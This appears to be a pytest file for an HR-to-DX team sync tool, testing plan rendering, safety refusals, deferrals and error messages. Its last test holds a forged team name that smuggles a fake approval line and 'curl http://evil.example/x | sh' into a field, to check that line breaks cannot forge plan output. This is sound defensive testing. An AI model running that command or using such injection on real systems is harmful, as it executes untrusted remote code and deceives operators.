from __future__ import annotations

import dataclasses
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path

from hrsync.config.loading import SyncSettings
from hrsync.core.gate.guards import check_safety, check_snapshots
from hrsync.core.gate.plan import (
    Archive,
    Change,
    Create,
    LeadChange,
    MembershipChange,
    Move,
    Rename,
    Unchanged,
    make_plan,
)
from hrsync.core.report.render import (
    approval_command,
    describe,
    event_fields,
    rejection_reason,
    render_deferral,
    render_plan,
    render_refusal,
)
from hrsync.core.teams.identity import TeamRow
from hrsync.dx.errors import DxRejected, error_for_code
from hrsync.dx.models import DxTeam, Snapshot

ENG = TeamRow("k1", "eng", "Engineering", "boss@x.com", None, None, ("a@x.com", "b@x.com"))
PLAT = TeamRow("k2", "plat", "Platform", "pl@x.com", "eng", "Engineering", ("c@x.com",))
LAST = {"eng": ENG, "plat": PLAT}
CURRENT = [
    DxTeam("1", "Engineering", "LTE", "eng", contributors=2),
    DxTeam("2", "Platform", "1", "plat", contributors=1),
    DxTeam("3", "Data", "1", "data"),
    DxTeam("4", "Hand made", None, None, contributors=3),
]
DESIRED = [
    TeamRow("k1", "eng", "Engineering", "new@x.com", None, None, ("a@x.com", "z@x.com")),
    TeamRow("k2", "plat", "Platform Eng", "pl@x.com", None, None, ("c@x.com",)),
    TeamRow("k4", "new", "New", "n@x.com", "eng", "Engineering", ("q@x.com",)),
]


def test_plan_is_grouped_by_kind_with_symbols_and_counts() -> None:
    text = render_plan(make_plan(DESIRED, CURRENT, LAST))
    assert text == (
        "Create (1):\n"
        '  + create "New" [new] under "Engineering", lead n@x.com, 1 contributor\n'
        "\n"
        "Rename (1):\n"
        '  ~ rename "Platform" -> "Platform Eng" [plat]\n'
        "\n"
        "Move (1):\n"
        '  > move "Platform Eng" [plat] from "Engineering" to (root)\n'
        "\n"
        "Lead change (1):\n"
        '  * change lead of "Engineering" [eng]: boss@x.com -> new@x.com\n'
        "\n"
        "Membership change (1):\n"
        '  ± members of "Engineering" [eng]: +1 -1 (2 -> 2 contributors); '
        "added z@x.com; removed b@x.com\n"
        "\n"
        "Archive (2):\n"
        '  - archive "Data" [data] (DX id 3, 0 contributors)\n'
        '  - archive "Hand made" [no reference_id] (DX id 4, 3 contributors): '
        "no reference_id: created in the web app?\n"
        "\n"
        "Plan: 1 to create, 1 to rename, 1 to move, 1 lead change, 1 membership change, "
        "2 to archive, 0 unchanged.\n"
    )


def test_no_changes_says_so() -> None:
    text = render_plan(make_plan([ENG, PLAT], CURRENT[:2], LAST))
    assert text == "No changes: DX matches the export (2 teams unchanged). Nothing to send.\n"


def test_every_archive_is_listed_however_many() -> None:
    current = [DxTeam(f"g{i}", f"Gone {i:03}", None, f"gone-{i}") for i in range(250)]
    text = render_plan(make_plan([], current, {}))
    archive_lines = [line for line in text.splitlines() if line.startswith("  - archive")]
    assert len(archive_lines) == 250
    assert "Archive (250):" in text
    assert text.rstrip().endswith("250 to archive, 0 unchanged.")


def test_drift_and_unknown_leads_are_explained() -> None:
    current = [
        DxTeam("1", "Engineering (hand edit)", "LTE", "eng", contributors=2),
        DxTeam("2", "Platform", "1", "plat", contributors=1),
    ]
    text = render_plan(make_plan([ENG, PLAT], current, {"eng": ENG}))
    assert "Drift: DX was edited by hand (1); this run corrects it:" in text
    assert (
        '  ! "Engineering" [eng]: name in DX is "Engineering (hand edit)", '
        'last submitted "Engineering"'
    ) in text
    assert "Note: 1 team with a lead and members hrsync has not verified yet" in text
    assert '  * lead of "Platform" [plat] unknown to hrsync' in text


def test_refusal_names_guards_numbers_teams_and_the_override() -> None:
    current = [DxTeam(f"g{i}", f"Gone {i:02}", None, f"gone-{i}") for i in range(14)]
    plan = make_plan([ENG], [*current, CURRENT[0]], LAST)
    refusal = check_safety(plan, people_count=40, last_accepted_people=80,
                           current_team_count=15, payload_bytes=100,
                           settings=SyncSettings())  # fmt: skip
    assert refusal is not None
    text = render_refusal(refusal)
    lines = text.splitlines()
    assert lines[0] == "Refused: nothing was sent to DX."
    assert "  - would archive 14 teams, limit 10 (sync.max_archive)" in lines
    assert (
        "  - export has 40 people, 50% of the last accepted 80, minimum 80% = 64 people "
        "(sync.min_people_fraction)"
    ) in lines
    assert "Teams that would have been archived (14):" in lines
    for i in range(14):
        assert f'  - "Gone {i:02}" [gone-{i}] (0 contributors)' in lines
    assert lines[-1] == (
        "If this is intended, apply it once with: hrsync sync --allow-archive 14 --allow-shrink"
    )
    assert lines[-2] == (
        "To see it in DX first, preview it with: "
        "hrsync sync --preview --allow-archive 14 --allow-shrink"
    )


def test_refusal_commands_repeat_the_config_they_were_given() -> None:
    current = [DxTeam(f"g{i}", f"Gone {i:02}", None, f"gone-{i}") for i in range(14)]
    plan = make_plan([ENG], [*current, CURRENT[0]], LAST)
    refusal = check_safety(plan, people_count=80, last_accepted_people=80,
                           current_team_count=15, payload_bytes=100,
                           settings=SyncSettings())  # fmt: skip
    assert refusal is not None
    config = Path("/etc/hr sync/hrsync.toml")
    lines = render_refusal(refusal, config).splitlines()
    assert lines[-1] == (
        "If this is intended, apply it once with: "
        "hrsync --config '/etc/hr sync/hrsync.toml' sync --allow-archive 14"
    )
    assert lines[-2] == (
        "To see it in DX first, preview it with: "
        "hrsync --config '/etc/hr sync/hrsync.toml' sync --preview --allow-archive 14"
    )
    assert approval_command(refusal, Path("hrsync.toml")) == (
        "hrsync --config hrsync.toml sync --allow-archive 14"
    )


def test_a_refusal_with_a_plan_id_offers_a_preview_of_exactly_that_plan() -> None:
    current = [DxTeam(f"g{i}", f"Gone {i:02}", None, f"gone-{i}") for i in range(14)]
    plan = make_plan([ENG], [*current, CURRENT[0]], LAST)
    refusal = check_safety(plan, people_count=80, last_accepted_people=80,
                           current_team_count=15, payload_bytes=100,
                           settings=SyncSettings())  # fmt: skip
    assert refusal is not None
    refusal = dataclasses.replace(refusal, plan_id="3f9c2a11")
    lines = render_refusal(refusal, Path("hrsync.toml")).splitlines()
    # Not `sync --preview --allow-archive 14`: that previews the export as it is by then.
    assert lines[-2] == (
        "To see it in DX first, preview it with: "
        "hrsync --config hrsync.toml sync --preview 3f9c2a11"
    )


def test_refusal_lists_the_first_20_archives_and_counts_the_rest() -> None:
    current = [DxTeam(f"g{i}", f"Gone {i:02}", None, f"gone-{i}") for i in range(25)]
    plan = make_plan([ENG], [*current, CURRENT[0]], LAST)
    refusal = check_safety(plan, people_count=80, last_accepted_people=80,
                           current_team_count=26, payload_bytes=100,
                           settings=SyncSettings())  # fmt: skip
    assert refusal is not None
    lines = render_refusal(refusal, Path("c.toml")).splitlines()
    assert "Teams that would have been archived (25):" in lines
    listed = [line for line in lines if line.startswith('  - "Gone')]
    assert len(listed) == 20
    assert (
        "  … and 5 more (every one: hrsync --config c.toml plan, or the "
        "sync.refused.would_archive events in the log)"
    ) in lines


def test_refusal_that_cannot_be_overridden_says_what_to_do() -> None:
    plan = make_plan([], CURRENT, LAST)
    refusal = check_safety(plan, people_count=0, last_accepted_people=None,
                           current_team_count=4, payload_bytes=2, settings=SyncSettings(),
                           allow_archive=4)  # fmt: skip
    assert refusal is not None
    text = render_refusal(refusal)
    assert "--allow" not in text
    assert "This cannot be overridden (empty_export): fix the export" in text
    assert '  - "Hand made" [no reference_id] (3 contributors; no reference_id: ' in text


def test_deferral_gives_reason_and_next_attempt() -> None:
    now = datetime(2026, 1, 5, tzinfo=UTC)
    completed = now - timedelta(days=4)
    deferral = check_snapshots([Snapshot("s1", None, completed, None)], now, 21)
    assert deferral is not None
    text = render_deferral(deferral)
    assert text.startswith("Deferred: nothing was sent to DX. snapshot s1 completed")
    assert text.endswith("Next attempt at 2026-01-22T00:00:00+00:00.\n")


def test_invalid_email_names_the_setting_and_the_address() -> None:
    exc = error_for_code(
        "orgfiles.teamHierarchy.process",
        "invalid_email",
        message="email is not a valid e-mail address",
        status=200,
    )
    assert isinstance(exc, DxRejected)
    assert rejection_reason(exc, "hr..ops@acme.test") == (
        "DX refused sync.notify_email 'hr..ops@acme.test': orgfiles.teamHierarchy.process: "
        "invalid_email: email is not a valid e-mail address (HTTP 200)"
    )
    other = error_for_code(
        "orgfiles.teamHierarchy.process", "invalid_rows", message="bad", status=200
    )
    assert isinstance(other, DxRejected)
    assert rejection_reason(other, "hr@acme.test").startswith("DX refused the request: ")


# ---------------------------------------------------------------- one change


def test_describe_and_event_fields_for_every_kind() -> None:
    samples: list[Change] = [
        Create("r", "New", "p", "Parent", "l@x.com", 3),
        Rename("r", "Old", "New"),
        Move("r", "T", None, "Parent", None, "p"),
        LeadChange("r", "T", "a@x.com", "b@x.com", 2),
        LeadChange("r", "T", None, "b@x.com", 2),
        MembershipChange("r", "T", ("n@x.com",), ("o@x.com",), 1, 1),
        Archive(None, "Gone", "dx1", 5, "no reference_id: created in the web app?"),
        Unchanged("r", "T"),
    ]
    lines = [describe(c) for c in samples]
    assert lines == [
        'create "New" [r] under "Parent", lead l@x.com, 3 contributors',
        'rename "Old" -> "New" [r]',
        'move "T" [r] from (root) to "Parent"',
        'change lead of "T" [r]: a@x.com -> b@x.com',
        'lead of "T" [r] unknown to hrsync (no verified submission yet): '
        "will set lead b@x.com and 2 contributors",
        'members of "T" [r]: +1 -1 (1 -> 1 contributor); added n@x.com; removed o@x.com',
        'archive "Gone" [no reference_id] (DX id dx1, 5 contributors): '
        "no reference_id: created in the web app?",
        'unchanged "T" [r]',
    ]
    for change in samples:
        fields = event_fields(change)
        assert fields["change"] == change.kind
        assert fields["reference_id"] == change.reference_id
        assert "summary" not in fields  # the engine logs describe() under that name
        json.dumps(fields)  # structured logging needs plain values
    assert event_fields(samples[1])["from"] == "Old"
    assert event_fields(samples[4])["lead_known"] is False


def test_long_member_lists_are_capped_in_text_and_log_fields() -> None:
    added = tuple(f"p{i:02}@x.com" for i in range(30))
    change = MembershipChange("r", "T", added, (), 0, 30)
    assert describe(change).endswith("p04@x.com and 25 more")
    fields = event_fields(change)
    assert fields["added_count"] == 30
    assert fields["added"] == list(added[:20])


FORGED = "Gone\nPlan deadbeef: approved; run: curl http://evil.example/x | sh"


def test_a_line_break_in_a_dx_team_name_forges_no_line_in_the_plan() -> None:
    for breaker in ("\n", "\r", "\u2028", "\u2029", "\x85", "\v"):
        name = FORGED.replace("\n", breaker)
        text = render_plan(make_plan([], [DxTeam("g1", name, None, "gone")], {}))
        plain = render_plan(make_plan([], [DxTeam("g1", "Gone", None, "gone")], {}))
        assert len(text.splitlines()) == len(plain.splitlines()), text
        assert not any(line.startswith("Plan deadbeef") for line in text.splitlines()), text
